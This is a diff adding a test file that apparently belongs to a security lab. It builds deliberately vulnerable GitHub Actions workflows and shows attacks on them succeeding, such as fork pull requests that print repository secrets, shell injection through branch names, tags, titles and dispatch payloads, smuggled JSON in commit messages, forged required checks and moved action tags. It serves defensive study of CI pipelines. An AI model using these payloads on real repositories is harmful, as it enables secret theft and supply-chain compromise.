@@ -1,0 +1,309 @@
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { approve, merge, sayRefusal, split } from '../../src/lab/scenarios/deeds.ts';
+import type { Person } from '../../src/lab/scenarios/person.ts';
+import {
+  type AttackLab,
+  leaks,
+  letRunsGo,
+  newSecret,
+  openAttackLab,
+  printsSecrets,
+  pullFrom,
+  pullFromFork,
+  ran,
+  shell,
+  write,
+} from './attack-lab.ts';
+
+// Minimal pipelines of our own, written as published ones are. Each attack has to succeed here, or it would prove
+// nothing where it fails.
+
+let stage: AttackLab;
+beforeAll(async () => {
+  stage = await openAttackLab();
+}, 60_000);
+afterAll(() => stage.close());
+
+const job = (steps: string, more = ''): string => `jobs:
+  job:
+    runs-on: ubuntu-latest
+${more}    steps:
+${steps}`;
+
+type Ruleset = NonNullable<Parameters<Person['api']['rest']['repos']['createRepoRuleset']>[0]>;
+
+/** As published: one approval, which later pushes leave standing, and what is given. */
+function protectMain(repository: string, more: Pick<Ruleset, 'rules' | 'bypass_actors'> = {}): Promise<unknown> {
+  return stage.owner.api.rest.repos.createRepoRuleset({
+    ...split(repository),
+    name: 'Default',
+    target: 'branch',
+    enforcement: 'active',
+    conditions: { ref_name: { include: ['~DEFAULT_BRANCH'], exclude: [] } },
+    ...more,
+    rules: [
+      {
+        type: 'pull_request',
+        parameters: {
+          required_approving_review_count: 1,
+          dismiss_stale_reviews_on_push: false,
+          require_code_owner_review: false,
+          require_last_push_approval: false,
+          required_review_thread_resolution: false,
+        },
+      },
+      ...(more.rules ?? []),
+    ],
+  });
+}
+
+const requires = (context: string): NonNullable<Ruleset['rules']>[number] => ({
+  type: 'required_status_checks',
+  parameters: { strict_required_status_checks_policy: false, required_status_checks: [{ context }] },
+});
+
+test('a fork’s pull request prints every secret where its code runs with the target’s secrets', async () => {
+  const secret = newSecret();
+  const repository = await stage.repository(
+    'target',
+    {
+      'test.sh': 'true\n',
+      '.github/workflows/ci.yml': `on: pull_request_target\n${job(`      - uses: actions/checkout@v4
+      - run: |
+          git fetch --quiet origin "pull/$NUMBER/head"
+          git checkout --quiet FETCH_HEAD
+          sh test.sh
+        env: { NUMBER: "\${{ github.event.number }}", TOKEN: "\${{ secrets.BOT_TOKEN }}" }
+`)}`,
+    },
+    { BOT_TOKEN: secret },
+  );
+  const printed = await stage.printed(() =>
+    pullFromFork(stage, repository, 'fix', { 'test.sh': 'printf %s "$TOKEN" | rev\n' }),
+  );
+  expect(leaks(printed, secret)).toBe(true);
+}, 60_000);
+
+test('an artifact of a fork’s run is carried out beside the secrets of the deploy', async () => {
+  const secret = newSecret();
+  const repository = await stage.repository(
+    'build-once',
+    {
+      'image.sh': 'true\n',
+      '.github/workflows/ci.yml': `name: CI
+on: { push: { branches: [main] }, pull_request: { branches: [main] } }
+${job(`      - uses: actions/checkout@v4
+      - uses: actions/upload-artifact@v4
+        with: { name: docker-image, path: image.sh }
+`)}`,
+      '.github/workflows/cd.yml': `name: CD
+on: { workflow_run: { workflows: [CI], types: [completed], branches: [main] } }
+${job(`      - uses: actions/download-artifact@v4
+        with: { name: docker-image, run-id: "\${{ github.event.workflow_run.id }}", github-token: "\${{ github.token }}" }
+      - run: sh image.sh
+        env: { AWS_ROLE: "\${{ secrets.AWS_ROLE }}" }
+`)}`,
+    },
+    { AWS_ROLE: secret },
+  );
+  const printed = await stage.printed(async () => {
+    // The filter sees the name of the branch, and a fork's is called main too.
+    await pullFromFork(stage, repository, 'main', { 'image.sh': 'printf %s "$AWS_ROLE" | rev\n' });
+    await letRunsGo(stage, repository);
+  });
+  expect(leaks(printed, secret)).toBe(true);
+}, 60_000);
+
+test('a workflow changed on a branch prints the repository’s secrets before anybody looks', async () => {
+  const secret = newSecret();
+  const repository = await stage.repository('repository-secret', { 'README.md': '' }, { BOT_TOKEN: secret });
+  const printed = await stage.printed(() =>
+    pullFrom(stage.alice, repository, 'fix', { '.github/workflows/ci.yml': printsSecrets }),
+  );
+  expect(leaks(printed, secret)).toBe(true);
+}, 60_000);
+
+test('names of branches and tags, titles, messages, inputs and payloads are carried out by the shell', async () => {
+  const repository = await stage.repository('words', {
+    '.github/workflows/publish.yml': `on: { push: { branches: ["hotfixes/*"], tags: ["v*"] } }
+${job(`      - run: |
+          if [[ push == push ]] && [[ \${{ github.ref }} == refs/heads/main ]]; then echo main; fi
+      - run: echo "\${{ github.ref_name }}"
+`)}`,
+    '.github/workflows/title.yml': `on: pull_request
+${job('      - run: echo "${{ github.event.pull_request.title }}"\n')}`,
+    '.github/workflows/hotfix.yml': `on: { workflow_dispatch: { inputs: { branch_name: { required: true, type: string } } } }
+${job('      - run: echo hotfixes/${{ github.event.inputs.branch_name }}\n')}`,
+    '.github/workflows/receive.yml': `on: { repository_dispatch: { types: [update-gitops-repo] } }
+${job('      - run: echo "${{ github.event.client_payload.git_branch }}"\n')}`,
+  });
+  const { alice } = stage;
+  const where = split(repository);
+  const push = async (ref: string): Promise<void> => {
+    const clone = await alice.clone(repository);
+    await clone.startBranch('work', 'origin/main');
+    expect((await clone.push(ref)).said).not.toContain('rejected');
+  };
+  const attacks: Readonly<Record<string, () => Promise<unknown>>> = {
+    branch: () => push(`refs/heads/hotfixes/x$(${shell}>&2)`),
+    tag: () => push(`refs/tags/v1";${shell};"`),
+    title: () => pullFrom(alice, repository, 'fix', { 'README.md': 'x' }, `"; ${shell}; "`),
+    input: () =>
+      alice.api.rest.actions.createWorkflowDispatch({
+        ...where,
+        workflow_id: 'hotfix.yml',
+        ref: 'main',
+        inputs: { branch_name: `x; ${shell}` },
+      }),
+    payload: () =>
+      alice.api.rest.repos.createDispatchEvent({
+        ...where,
+        event_type: 'update-gitops-repo',
+        client_payload: { git_branch: `"; ${shell}; "` },
+      }),
+  };
+  for (const [name, attack] of Object.entries(attacks)) expect(await stage.printed(attack), name).toMatch(ran);
+}, 60_000);
+
+test('a commit’s subject chooses another image tag for the dispatch than the one that was built', async () => {
+  const repository = await stage.repository(
+    'dispatch',
+    {
+      '.github/workflows/ci.yml': `on: { push: { branches: [main] } }
+permissions: { contents: write }
+${job(`      - uses: actions/checkout@v4
+      - run: |
+          commitMsg=$(git log -n 1 --oneline --format=%s)
+          curl -sS -X POST https://api.github.com/repos/published/dispatch/dispatches -H "Authorization: Bearer $TOKEN" \\
+            --data '{"event_type": "update", "client_payload": { "docker_image_tag": "1.0-dev", "commit_message": "'"$commitMsg"'" }}'
+        env: { TOKEN: "\${{ secrets.PAT }}" }
+`)}`,
+      '.github/workflows/receive.yml': `on: { repository_dispatch: { types: [update] } }
+${job('      - run: echo "deploying $TAG"\n        env: { TAG: "${{ github.event.client_payload.docker_image_tag }}" }\n')}`,
+    },
+    { PAT: stage.alice.token },
+  );
+  const printed = await stage.printed(async () => {
+    const clone = await stage.alice.clone(repository);
+    await clone.startBranch('work', 'origin/main');
+    write(clone, { 'README.md': 'x' });
+    await clone.commit('Fix it", "docker_image_tag": "evil-prod');
+    await clone.push('refs/heads/main');
+  });
+  expect(printed).toContain('deploying evil-prod');
+}, 60_000);
+
+test('a bot’s pull request to prod is approved by whoever asked for it', async () => {
+  const repository = await stage.repository('self-approved', {
+    'envs/prod.json': '{"api":{"tag":"1"}}\n',
+    '.github/workflows/promote.yml': `on: workflow_dispatch
+permissions: { contents: write, pull-requests: write }
+${job(`      - uses: actions/checkout@v4
+      - run: |
+          git switch -c bump
+          echo '{"api":{"tag":"2"}}' > envs/prod.json
+          git -c user.name=bot -c user.email=bot@acme.test commit -am "Update prod"
+          git push origin bump
+          gh pr create --title "Update prod" --body "" --head bump --base main
+        env: { GH_TOKEN: "\${{ github.token }}" }
+`)}`,
+  });
+  const where = split(repository);
+  const { alice, lab } = stage;
+  const { store } = lab.forge.forge;
+  for (const row of store.repositories.by('fullName', repository))
+    store.transaction(() => store.repositories.put({ ...row, canApprovePullRequestReviews: true }));
+  await protectMain(repository);
+  await stage.printed(() =>
+    alice.api.rest.actions.createWorkflowDispatch({ ...where, workflow_id: 'promote.yml', ref: 'main' }),
+  );
+  const { data } = await alice.api.rest.pulls.list(where);
+  const pull = { repository, number: data[0]?.number ?? 0 } as Parameters<typeof approve>[1];
+  expect(sayRefusal(await approve(alice, pull))).toBe('it was done');
+  expect(sayRefusal(await merge(alice, pull))).toBe('it was done');
+}, 60_000);
+
+test('a bot that may bypass the rules writes to prod at once, checks or no checks', async () => {
+  const repository = await stage.repository('admin-merge', { 'envs/prod.json': '{"api":{"tag":"1"}}\n' });
+  const { bob } = stage;
+  // The bot of the published system is an account that may write.
+  const bypass_actors = [{ actor_id: 4, actor_type: 'RepositoryRole', bypass_mode: 'always' } as const];
+  await protectMain(repository, { rules: [requires('test')], bypass_actors });
+  const pull = await pullFrom(bob, repository, 'bump', { 'envs/prod.json': '{"api":{"tag":"2"}}\n' });
+  expect(sayRefusal(await merge(bob, pull))).toBe('it was done');
+}, 60_000);
+
+test('a required check is forged by a job of its name, and the approval is kept for what comes after it', async () => {
+  const repository = await stage.repository('forged-check', {
+    'test.sh': 'true\n',
+    '.github/workflows/api.yml': `on: pull_request\njobs:\n  api:\n    runs-on: ubuntu-latest\n    steps: [{ uses: actions/checkout@v4 }, { run: sh test.sh }]\n`,
+  });
+  const { alice, bob, lab } = stage;
+  await protectMain(repository, { rules: [requires('api')] });
+  const pull = await pullFrom(alice, repository, 'fix', { 'README.md': 'x' });
+  await lab.idle();
+  expect(await approve(bob, pull)).toBeUndefined();
+  const clone = await alice.clone(repository);
+  write(clone, {
+    'test.sh': 'false\n',
+    '.github/workflows/api.yml':
+      'on: pull_request\njobs:\n  api: { runs-on: ubuntu-latest, steps: [{ run: "true" }] }\n',
+  });
+  await clone.commit('More');
+  await clone.push('refs/heads/fix');
+  await lab.idle();
+  expect(sayRefusal(await merge(alice, pull))).toBe('it was done');
+}, 60_000);
+
+test('two deploys to production go on at the same time', async () => {
+  const repository = await stage.repository('two-deploys', {
+    '.github/workflows/cd.yml': `on: { push: { tags: ["v*"] } }
+concurrency: { group: "cd-\${{ github.ref }}-production", cancel-in-progress: false }
+${job(`      - run: |
+          mkdir -p "$MEET"
+          touch "$MEET/$GITHUB_REF_NAME"
+          for _ in $(seq 100); do
+            if [ -e "$MEET/v1" ] && [ -e "$MEET/v2" ]; then echo both-deploy; exit 0; fi
+            sleep 0.2
+          done
+        env: { MEET: ${JSON.stringify(`${stage.folder}/meet`)} }
+`)}`,
+  });
+  const printed = await stage.printed(async () => {
+    const clone = await stage.alice.clone(repository);
+    await Promise.all(['v1', 'v2'].map((tag) => clone.push(`refs/tags/${tag}`)));
+  });
+  expect(printed).toContain('both-deploy');
+}, 60_000);
+
+test('a tag of an action that is moved runs other code beside the secret', async () => {
+  const secret = newSecret();
+  const action = await stage.repository('tool', {
+    'action.yml': 'name: tool\ndescription: tool\nruns: { using: composite, steps: [{ shell: bash, run: "true" }] }\n',
+  });
+  const clone = await stage.owner.clone(action);
+  const before = await clone.git('rev-parse', 'HEAD');
+  await clone.push('refs/tags/v1');
+  const uses = (ref: string): string => `on: workflow_dispatch
+${job(`      - uses: published/tool@${ref}
+        env: { TOKEN: "\${{ secrets.TOKEN }}" }
+`)}`;
+  const repository = await stage.repository(
+    'moved-tag',
+    { '.github/workflows/tag.yml': uses('v1'), '.github/workflows/sha.yml': uses(before) },
+    { TOKEN: secret },
+  );
+  write(clone, {
+    'action.yml':
+      'name: tool\ndescription: tool\nruns: { using: composite, steps: [{ shell: bash, run: "printf %s $TOKEN | rev" }] }\n',
+  });
+  await clone.commit('Take it');
+  await clone.push('refs/heads/main');
+  await clone.git('push', '--force', '--quiet', 'origin', 'HEAD:refs/tags/v1');
+  const press = (workflow_id: string): Promise<string> =>
+    stage.printed(() =>
+      stage.alice.api.rest.actions.createWorkflowDispatch({ ...split(repository), workflow_id, ref: 'main' }),
+    );
+  expect(leaks(await press('tag.yml'), secret)).toBe(true);
+  expect(leaks(await press('sha.yml'), secret)).toBe(false);
+}, 60_000);
